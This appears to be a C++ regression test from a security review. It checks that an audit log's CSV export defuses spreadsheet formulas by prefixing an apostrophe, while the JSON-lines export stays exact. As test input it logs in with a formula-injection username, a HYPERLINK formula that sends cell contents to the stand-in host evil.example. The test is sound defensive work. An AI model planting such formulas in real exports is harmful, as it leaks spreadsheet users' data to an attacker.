// Regression tests of the second security review (issue 19), each on the real binary or the CLI:
// the CSV export neutralizes formulas.

#include <string>

#include "api_fixture.hpp"

namespace automation::testing {
namespace {

using nlohmann::json;

// A failed login as nobody in particular, with `username` exactly as given.
void failed_login(HttpClient& http, const std::string& username) {
  const auto refused =
      http.post("/api/users/login", json{{"username", username}, {"password", "wrong-password"}});
  ASSERT_EQ(refused.status, 403) << refused.body;
}

class SecurityReview2 : public ApiTest {};

// Review #11: a spreadsheet evaluates a cell that starts with = + - @ tab or CR, quoted or
// not; the CSV export writes such text with an apostrophe in front, the JSON lines exactly.
TEST_F(SecurityReview2, CsvExportNeutralizesFormulasAndJsonLinesStayExact) {
  const std::string formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")" +
                              unique_name("x");
  failed_login(http(), formula);
  failed_login(http(), "@SUM(1+1)");

  const auto csv = http().get("/api/users/audit/export?format=csv", api_key(system_key()));
  ASSERT_EQ(csv.status, 200) << csv.body;
  std::string quoted = formula;  // as a CSV cell: quotes doubled
  for (std::size_t at = quoted.find('"'); at != std::string::npos; at = quoted.find('"', at + 2)) {
    quoted.insert(at, 1, '"');
  }
  EXPECT_NE(csv.body.find(",\"'" + quoted + "\","), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",\"" + quoted + "\","), std::string::npos) << "left as a formula";
  EXPECT_NE(csv.body.find(",\"'@SUM(1+1)\","), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",\"@SUM(1+1)\","), std::string::npos);

  const auto lines = http().get("/api/users/audit/export", api_key(system_key()));
  ASSERT_EQ(lines.status, 200) << lines.body;
  EXPECT_NE(lines.body.find(json(formula).dump()), std::string::npos) << "JSON lines are exact";
  EXPECT_EQ(lines.body.find("'=HYPERLINK"), std::string::npos);
}

}  // namespace
}  // namespace automation::testing
